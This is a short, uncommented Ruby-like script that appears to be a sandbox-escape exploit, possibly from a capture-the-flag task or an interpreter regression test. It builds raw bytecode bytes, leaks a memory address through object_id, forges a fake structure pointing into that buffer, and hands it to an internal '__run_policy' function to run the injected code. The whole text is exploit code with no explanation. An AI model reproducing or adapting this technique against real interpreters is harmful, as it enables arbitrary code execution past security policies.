allow :null
code = "\x03\x01\x4d\x38\x01" + "\x00" * 59
code.setbyte(60, 1)
address = code.object_id ^ 16
fake = "\x00" * 12
8.times { |i| fake.setbyte(4 + i, (address + 48 >> (8 * i)) & 255) }
raise "ran: %x" % [__run_policy(fake)]
